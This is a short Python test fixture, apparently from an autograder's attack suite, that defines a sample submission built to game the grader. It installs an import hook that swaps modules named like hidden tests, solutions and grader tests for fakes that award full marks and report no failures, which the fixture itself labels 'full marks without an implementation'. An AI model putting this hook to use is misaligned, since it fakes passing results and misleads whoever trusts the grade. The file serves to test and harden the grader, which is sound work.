"""Hooks into imports, to hand out hidden tests' modules of its own making."""

from tests.attacks.suite import STUB, Attack

ATTACK = Attack(
    harm="full marks without an implementation",
    answer=STUB
    + """
import importlib.abc
import importlib.machinery
import sys

WANTED = (
    "workbook.learn.workspace.plain_nbgrader",
    "workbook.course.hidden_tests",
    "solutions",
    "grader_tests",
)


def mark(student, tests, earlier):
    return float(sum(points for _, points in tests))


class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        if name.startswith(WANTED):
            return importlib.machinery.ModuleSpec(name, self, is_package=True)

    def exec_module(self, module):
        module.mark = mark
        module.run = lambda tests, student, seed: []


for name in WANTED:
    sys.modules.pop(name, None)
sys.meta_path.insert(0, Finder())
sys.path_hooks.insert(0, lambda path: Finder())
sys.path_importer_cache.clear()
""",
)
